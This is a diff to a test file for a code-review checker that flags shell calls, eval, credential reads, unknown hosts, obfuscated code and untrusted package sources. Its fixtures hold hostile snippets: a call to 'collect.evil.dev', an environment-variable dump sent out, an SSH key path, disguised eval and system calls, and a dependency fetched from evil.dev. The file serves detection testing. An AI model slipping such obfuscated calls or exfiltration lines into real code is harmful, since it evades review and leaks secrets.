@@ -147,7 +147,7 @@ test.each([
   ["path-escape", "a.py", 'shutil.rmtree("../../../x")'],
   ["shell", "a.go", 'exec.Command("sh", "-c", line)'],
   ["path-escape", "a.go", 'os.WriteFile("/etc/hosts", b, 0o644)'],
-  ["unknown-host", "a.go", 'http.Get("http://collect.evil.dev")'],
+  ["unknown-host", "a.go", 'func a() { http.Get("http://collect.evil.dev") }'],
   ["eval", "a.rb", "eval(text)"],
   ["shell", "a.rb", 'system("ls #{name}")'],
   ["shell", "a.rb", "x = `ls #{name}`"],
@@ -162,6 +162,19 @@ test.each([
   ["shell", "a.php", "shell_exec($command);"],
   ["shell", "A.java", "Runtime.getRuntime().exec(command);"],
   ["shell", "a.rs", 'Command::new("sh").arg("-c")'],
+  ["shell", "a.rb", 'Object.send(:system, "ls #{name}")'],
+  ["shell", "a.py", 'run = getattr(__import__("o" + "s"), "system")\nrun(line)'],
+  ["eval", "a.py", "from builtins import exec as go\ngo(text)"],
+  ["eval", "a.ts", 'const { ["ev" + "al"]: go } = globalThis;\ngo(text);'],
+  ["eval", "a.py", "exec(text)"],
+  ["credentials", "a.js", "const { ...all } = process.env;\nsend(JSON.stringify(all));"],
+  ["credentials", "a.py", 'KEY = "/root/.ss" "h/id_rsa"'],
+  ["eval", "a.js", "const table = { go: eval };\ntable.go(text);"],
+  ["shell", "a.py", "import os\nlist(map(os.system, lines))"],
+  ["hidden-code", "a.js", 'const s = "\\x65\\x76\\x61\\x6c\\x28\\x78\\x29";'],
+  ["hidden-code", "a.go", "var s = []byte{99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47}"],
+  ["foreign-source", "requirements.txt", "left @ git+https://evil.dev/left.git"],
+  ["eval", "a.sh", 'x=ev; y="${x}al"\n$y "$1"'],
   ["eval", "tool", "#!/usr/bin/env node\neval(text)"],
   ["eval", "page.html", "<html>\n<script>\neval(location.hash)\n</script>"],
   ["eval", "A.vue", '<script lang="ts">\nconst a: number = eval("1");\n</script>'],
@@ -210,6 +223,21 @@ test("a line that is added inside an old call can break it", () => {
 test("tests may use what they test, but may not take credentials", () => {
   expect(added("src/a.test.ts", "expect(eval('1')).toBe(1);")).toEqual([]);
   expect(added("src/a.test.ts", 'readFileSync("/root/.ssh/id_rsa");')).toEqual(["credentials"]);
+});
+
+test("a director allows a rule to be broken in one task by its tag; nobody else does", () => {
+  const text = 'import { exec } from "node:child_process";\nexec(line);\neval(line);';
+  const changes = [change("a.ts", null, text)];
+  const spec = { ...task, tags: ["allow:shell"] };
+  expect(rulesOf(changes, spec)).toEqual(["eval"]);
+  expect(rulesOf(changes, { ...spec, source: "backlog-file" })).toContain("shell");
+  const { check } = constitutionCheck(changes, spec, []);
+  expect(check.detail).toContain('to allow it once: nightshift add "<task>" --tag allow:eval');
+  const both = { ...task, tags: ["allow:shell", "allow:eval"] };
+  expect(constitutionCheck(changes, both, []).check).toMatchObject({
+    outcome: "pass",
+    detail: "the director allows shell at a.ts:2; eval at a.ts:3",
+  });
 });
 
 test("what a guest writes in its task gives no permission", () => {
